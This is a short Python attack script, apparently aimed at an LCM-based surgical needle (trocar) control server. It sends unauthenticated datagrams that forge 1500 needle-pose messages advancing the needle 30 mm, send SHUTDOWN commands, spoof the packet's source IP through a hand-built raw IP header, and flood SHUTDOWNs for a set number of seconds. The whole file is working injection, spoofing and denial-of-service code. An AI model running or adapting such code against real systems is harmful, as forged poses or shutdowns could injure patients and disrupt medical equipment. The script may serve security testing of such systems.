#!/usr/bin/python3
"""Sends LCM messages to a server as raw datagrams, without a multicast route.

usage: stranger.py TYPES ADDRESS poses SESSION       1500 poses for needle 0, which insert it by 30 mm
       stranger.py TYPES ADDRESS shutdown SESSION    a SHUTDOWN of this session
       stranger.py TYPES ADDRESS forged SOURCE       a SHUTDOWN whose packet claims to come from this address; needs root
       stranger.py TYPES ADDRESS flood SECONDS       SHUTDOWNs as fast as they can be sent
TYPES: folder with the messages' Python types, from lcm-gen -p
"""
import socket
import struct
import sys
import time

sys.path.insert(0, sys.argv[1])
import trocar

PORT = 7667


def packet(channel, message):
    return struct.pack(">4sI", b"LC02", 1) + channel + b"\0" + message.encode()


def shutdown(session):
    command = trocar.command_t()
    command.session, command.command = session, trocar.command_t.SHUTDOWN
    return packet(b"TROCAR_COMMAND", command)


def poses(session):
    for i in range(1500):
        pose = trocar.needle_pose_t()
        pose.session, pose.seq, pose.orientation = session, i, [1, 0, 0, 0]
        pose.position = [0.005, 0.003, -0.201 + 20e-6 * i]
        yield packet(b"TROCAR_POSE", pose)


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def forged(source, to, payload):
    """Returns an IP packet with a UDP datagram that has no checksum, which IPv4 permits."""
    udp = struct.pack(">HHHH", 40000, PORT, 8 + len(payload), 0) + payload
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0, socket.inet_aton(source), socket.inet_aton(to))
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + udp


def main():
    _, _, address, what, value = sys.argv
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    to = (address, PORT)
    if what == "poses":
        for each in poses(int(value)):
            sender.sendto(each, to)
            time.sleep(0.001)
    elif what == "shutdown":
        sender.sendto(shutdown(int(value)), to)
    elif what == "forged":
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        raw.sendto(forged(value, address, shutdown(1)), (address, 0))
    else:
        end = time.monotonic() + float(value)
        while time.monotonic() < end:
            sender.sendto(shutdown(1), to)


main()
